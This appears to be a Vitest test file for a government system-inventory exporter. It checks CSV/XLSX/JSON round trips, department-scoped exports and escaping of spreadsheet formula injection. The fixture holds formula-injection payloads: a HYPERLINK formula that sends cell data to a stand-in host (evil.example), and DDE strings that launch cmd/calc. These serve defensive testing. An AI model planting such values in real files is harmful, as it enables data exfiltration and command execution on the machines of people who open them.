import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Principal } from '../../src/auth/tokens.js';
import { seedDemo } from '../../src/inventory/demo.js';
import { findDepartment } from '../../src/inventory/departments.js';
import { exportInventory } from '../../src/inventory/export.js';
import { importInventory } from '../../src/inventory/import/index.js';
import { createSystem, findSystem } from '../../src/inventory/systems.js';
import { systemCreateSchema } from '../../src/inventory/schemas.js';
import { backends, openTestDatabase, type TestDatabase } from '../support/db.js';
import { actor, fingerprint, readXlsxRows } from './helpers.js';

describe.each(backends)('inventory export on %s', (backend) => {
  let database: TestDatabase;
  const db = () => database.db;
  beforeAll(async () => {
    database = await openTestDatabase(backend);
    await seedDemo(database.db);
    // Text a spreadsheet would run as a formula, in every field that takes free text.
    await createSystem(
      database.db,
      actor,
      systemCreateSchema.parse({
        code: 'INJ-1',
        name: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        departmentCode: '371300-DSJ',
        operatorUnit: '+cmd|" /C calc"!A0',
        contractor: '@SUM(1+1)*cmd|" /C calc"!A0',
        contact: { name: "'=already quoted", phone: '+86 539 8123 4567', email: null },
        description: '-2+3 and\na second line, with "quotes"',
        tags: ['=1+1', '普通'],
      }),
    );
  });
  afterAll(() => database.close());

  it('exports a round trip: export → import gives 0 created, 0 updated (xlsx and csv)', async () => {
    for (const format of ['xlsx', 'csv'] as const) {
      const file = await exportInventory(db(), format);
      const before = await fingerprint(db());
      const s = await importInventory(db(), actor, { bytes: file, fileName: `inventory.${format}` });
      expect(s).toMatchObject({ created: 0, updated: 0, errorCount: 0 });
      expect(s.unchanged).toBeGreaterThan(140);
      expect(await fingerprint(db())).toEqual(before);
    }
  });

  it('round-trips the English export too', async () => {
    for (const format of ['xlsx', 'csv'] as const) {
      const file = await exportInventory(db(), format, { lang: 'en' });
      expect(await importInventory(db(), actor, { bytes: file, fileName: `en.${format}`, dryRun: true })).toMatchObject({ created: 0, updated: 0, errorCount: 0 });
    }
  });

  it('escapes formula-like text with a leading quote, and the import takes it off again', async () => {
    const csv = (await exportInventory(db(), 'csv')).toString('utf8');
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const line = csv.split('\r\n').find((l) => l.startsWith('INJ-1,'))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"`);
    expect(line).toContain(`"'+cmd|"" /C calc""!A0"`);
    expect(line).toContain(`'@SUM`);
    expect(line).toContain(`''=already quoted`);
    expect(line).toContain(`'+86 539 8123 4567`);
    expect(line).toContain(`"'-2+3 and`);
    // No cell of the CSV starts with a formula character.
    expect(csv.split(/\r\n/).flatMap((l) => l.split(',')).some((cell) => /^"?[=+\-@]/.test(cell))).toBe(false);

    const rows = await readXlsxRows(await exportInventory(db(), 'xlsx'));
    const inj = rows.find((r) => r[0] === 'INJ-1')!;
    expect(inj[1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"点我")`);
    expect(inj[6]).toBe("''=already quoted");
    // Written as text, never as a formula cell.
    expect(rows.flat().some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);

    for (const format of ['xlsx', 'csv'] as const) {
      expect(await importInventory(db(), actor, { bytes: await exportInventory(db(), format), fileName: `x.${format}` })).toMatchObject({ created: 0, updated: 0 });
    }
    const back = (await findSystem(db(), 'INJ-1'))!.row;
    expect(back).toMatchObject({ name: '=HYPERLINK("http://evil.example/?"&A1,"点我")', contactName: "'=already quoted", contactPhone: '+86 539 8123 4567', version: 1 });
    expect(back.tags).toEqual(['=1+1', '普通']);
  });

  it('writes Chinese headers and labels by default, with department code and name, endpoints, contact, tags and status', async () => {
    const rows = await readXlsxRows(await exportInventory(db(), 'xlsx'));
    expect(rows[0]).toEqual([
      '系统编码',
      '系统名称',
      '主管部门',
      '主管部门名称',
      '运维单位',
      '承建单位',
      '联系人',
      '联系电话',
      '联系邮箱',
      '系统简介',
      '生命周期',
      '上线日期',
      '部署方式',
      '是否应上云',
      '网络',
      '建设层级',
      '等保级别',
      '用户范围',
      '注册用户数',
      '访问地址',
      '标签',
      '分类结果',
    ]);
    const portal = rows.find((r) => r[0] === 'LY-BGS-001')!;
    expect(portal.slice(0, 4)).toEqual(['LY-BGS-001', '临沂市人民政府门户网站', '371300-BGS', '临沂市人民政府办公室']);
    expect(portal[11]).toEqual(new Date('2008-06-18T00:00:00Z'));
    expect(portal[16]).toBe('三级');
    expect(portal[19]).toBe('https://www.linyi.gov.cn.example/');
    expect(portal[21]).toBe('证据不足');
    const app = rows.find((r) => r[0] === 'LY-DSJ-002')!;
    expect(app[19]).toBe('应用:https://ish.linyi.gov.cn.example/h5/\n接口:https://ish.linyi.gov.cn.example/api/');
  });

  it('exports JSON in the API shape, and a department token gets its subtree only', async () => {
    const all = JSON.parse((await exportInventory(db(), 'json')).toString('utf8'));
    expect(all.count).toBe(all.systems.length);
    expect(all.systems.find((s: { code: string }) => s.code === 'LY-BGS-001')).toMatchObject({
      departmentCode: '371300-BGS',
      departmentName: '临沂市人民政府办公室',
      contact: expect.any(Object),
      endpoints: [{ url: 'https://www.linyi.gov.cn.example/', role: 'portal' }],
      status: 'insufficient_evidence',
    });
    const lanshan = (await findDepartment(db(), '371302'))!;
    const principal: Principal = { tokenId: 1, name: 'ls', role: 'department', departmentId: lanshan.id, departmentPath: lanshan.path, departmentCode: '371302' };
    const scoped = JSON.parse((await exportInventory(db(), 'json', { principal })).toString('utf8'));
    expect(scoped.count).toBeGreaterThan(3);
    expect(scoped.systems.every((s: { departmentCode: string }) => s.departmentCode.startsWith('371302'))).toBe(true);
    expect(scoped.systems.map((s: { code: string }) => s.code)).toContain('371302002-002');
  });

  it('seeds the demo idempotently: a second run adds nothing and changes nothing', async () => {
    const before = await fingerprint(db());
    expect(await seedDemo(db())).toEqual({ departments: 0, systems: 0 });
    expect(await fingerprint(db())).toEqual(before);
  });
});
